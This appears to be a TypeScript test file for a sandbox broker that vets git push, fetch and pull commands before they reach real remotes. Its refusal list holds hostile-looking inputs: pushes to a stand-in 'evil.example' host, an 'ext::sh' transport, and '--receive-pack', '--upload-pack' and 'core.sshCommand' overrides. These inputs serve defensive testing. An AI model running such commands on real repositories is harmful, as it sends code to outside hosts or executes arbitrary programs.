import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { RecordedRepository } from '../../src/ports/broker.ts'
import { brokerTakes, namesRemote } from '../../src/sandbox/broker/broker-takes.ts'
import { commandText } from '../../src/sandbox/broker/command-text.ts'
import { planGit, type RepositoryFacts } from '../../src/sandbox/broker/plan-git.ts'

const ID = 'a'.repeat(40)
const RECORDED: RecordedRepository = {
  worktree: '/home/me/project',
  objects: '/home/me/project/.git/objects',
  configFile: '/home/me/project/.git/config',
  alternates: '',
  remotes: ['origin', 'fork'].map(name => ({
    name,
    url: `https://github.com/${name}/project.git`,
    pushUrl: `https://github.com/${name}/project.git`,
    fetch: [`+refs/heads/*:refs/remotes/${name}/*`],
  })),
}
const FACTS: RepositoryFacts = {
  head: 'refs/heads/feature',
  headId: ID,
  refs: ['refs/heads/feature', 'refs/heads/main', 'refs/tags/v1', 'refs/remotes/origin/main'].map(ref => ({
    ref,
    id: ID,
  })),
  settings: [
    ['branch.main.remote', 'origin'],
    ['branch.main.merge', 'refs/heads/main'],
  ],
}
const plan = (text: string, facts: Partial<RepositoryFacts> = {}) =>
  planGit(text.split(' '), { ...FACTS, ...facts }, RECORDED, url => url.startsWith('/'))

test.each([
  ['push', false],
  ['push -u', false],
  ['-C sub push --force', false],
  ['push origin', true],
  ['push -u origin HEAD', true],
  ['-C sub pull origin main', true],
])('whether `git %s` names its remote: %s', (words, names) => {
  expect(namesRemote(words.split(' '))).toBe(names)
})

describe('the broker', () => {
  test.each([
    ['push', 'git push origin feature', 'refs/heads/feature:refs/heads/feature'],
    ['push -u origin HEAD', 'git push -u origin feature', 'refs/heads/feature:refs/heads/feature'],
    ['push origin @:refs/heads/x', 'git push origin feature:x', 'refs/heads/feature:refs/heads/x'],
    ['push fork main', 'git push fork main', 'refs/heads/main:refs/heads/main'],
    ['push origin v1', 'git push origin refs/tags/v1', 'refs/tags/v1:refs/tags/v1'],
    ['push origin +feature', 'git push origin +feature', '+refs/heads/feature:refs/heads/feature'],
    [
      'push --force-with-lease',
      'git push --force-with-lease origin feature',
      'refs/heads/feature:refs/heads/feature',
    ],
    ['push origin HEAD~1:main', 'git push origin HEAD~1:main', 'HEAD~1:refs/heads/main'],
    [`push origin ${ID}:main`, `git push origin ${ID}:main`, `${ID}:refs/heads/main`],
  ])('shows for `git %s` what it pushes', (text, shown, refspec) => {
    const made = plan(text)
    expect(made).toMatchObject({ kind: 'push', shown: shown.split(' ') })
    if (made.kind !== 'push') throw new Error(made.kind)
    expect(made.args.at(-1)).toBe(refspec)
    expect(made.args).toContain('--no-verify')
  })

  test.each([
    ['fetch', 'git fetch origin'],
    ['fetch --all --prune', 'git fetch --all --prune'],
    ['fetch fork main', 'git fetch fork main'],
    ['fetch origin pull/3/head:pr-3', 'git fetch origin pull/3/head:pr-3'],
    ['pull --rebase origin main', 'git fetch origin'],
    ['ls-remote origin refs/heads/*', "git ls-remote origin 'refs/heads/*'"],
  ])('shows for `git %s` what it asks the remote', (text, shown) => {
    const made = plan(text)
    expect('shown' in made && commandText(made.shown)).toBe(shown)
  })

  test('a pull merges what was fetched, inside', () => {
    expect(plan('pull --rebase origin main')).toMatchObject({
      afterwards: ['pull', '--rebase', '.', 'refs/remotes/origin/main'],
    })
    expect(plan('pull', { head: 'refs/heads/main' })).toMatchObject({
      afterwards: ['pull', '.', 'refs/remotes/origin/main'],
    })
    expect(plan('pull')).toMatchObject({ kind: 'refused' })
  })

  test('a remote that is a folder inside needs nothing from outside', () => {
    expect(plan('push /tmp/x.git HEAD')).toEqual({ kind: 'inside' })
    expect(plan('fetch ../sibling')).toEqual({ kind: 'inside' })
  })

  test.each([
    'push https://evil.example/x HEAD',
    'push git@evil.example:x HEAD',
    'push ext::sh HEAD',
    'push other HEAD',
    'push --receive-pack=x origin HEAD',
    'push --exec=x origin HEAD',
    'push -o x origin HEAD',
    'push --repo=https://evil.example origin',
    'push --mirror origin',
    'push --all origin',
    'push --tags origin',
    'push --delete origin main',
    'push origin :main',
    'push origin +:main',
    'push origin HEAD:refs/notes/x',
    'push origin HEAD:refs/heads/',
    'push origin HEAD:a..b',
    'push origin HEAD:-x',
    'push origin no-such-branch',
    'push origin refs/heads/*:refs/heads/*',
    'push -uf origin HEAD',
    'fetch --upload-pack=x origin',
    'fetch -o x origin',
    'fetch --recurse-submodules origin',
    'fetch --refmap=x origin',
    'fetch --negotiation-tip=x origin',
    'fetch --depth=1 origin',
    'fetch origin main:feature',
    'fetch origin main:refs/baton/undo',
    'fetch origin +refs/*:refs/*',
    'pull --upload-pack=x origin main',
    'pull -X ours origin main',
    'pull origin a b',
    'ls-remote --upload-pack=x origin',
    'ls-remote https://evil.example/x',
    '-c core.sshCommand=x push origin HEAD',
    '--git-dir=/x push',
    'clone https://github.com/a/b',
    'remote add x y',
    '',
  ])('refuses `git %s`', text => {
    expect(plan(text)).toMatchObject({ kind: 'refused' })
  })

  test('a detached HEAD has no branch to push', () => {
    expect(plan('push', { head: undefined })).toMatchObject({ kind: 'refused' })
    expect(plan('push origin HEAD:main', { head: undefined })).toMatchObject({
      shown: ['git', 'push', 'origin', `${ID}:main`],
    })
  })

  test('whatever the words are, only known options and full names of branches and tags leave', () => {
    const word = fc.oneof(
      fc.constantFrom(
        'push',
        'fetch',
        'pull',
        'origin',
        'HEAD',
        'main',
        'HEAD:main',
        '-u',
        '--',
        '-f',
        '+HEAD',
        ':',
        '--all',
      ),
      fc.string({ maxLength: 12 }),
    )
    fc.assert(
      fc.property(fc.array(word, { maxLength: 6 }), words => {
        const made = planGit(words, FACTS, RECORDED, () => false)
        if (made.kind !== 'push') return
        expect(RECORDED.remotes.map(({ name }) => name)).toContain(made.remotes[0])
        for (const { target } of made.pushed) expect(target).toMatch(/^refs\/(heads|tags)\/[^ ~^:?*[\\]+$/)
        const specs = made.args.slice(-made.pushed.length)
        for (const spec of specs) expect(spec).not.toMatch(/^-/)
      }),
    )
  })

  test.each([
    ['git push -u origin HEAD', true],
    ['git -C sub push', true],
    ['git fetch --all', true],
    ['git status', false],
    ['git clone x', false],
    ['git -c a=b push', false],
    ['git push --mirror', false],
    ['/usr/bin/git push', false],
    ['docker push x', false],
  ])('takes `%s`: %s', (text, takes) => {
    expect(brokerTakes(text.split(' '))).toBe(takes)
  })

  test('takes a command with words that are only known when it runs', () => {
    expect(brokerTakes(['git', 'push', 'origin', undefined])).toBe(true)
  })
})
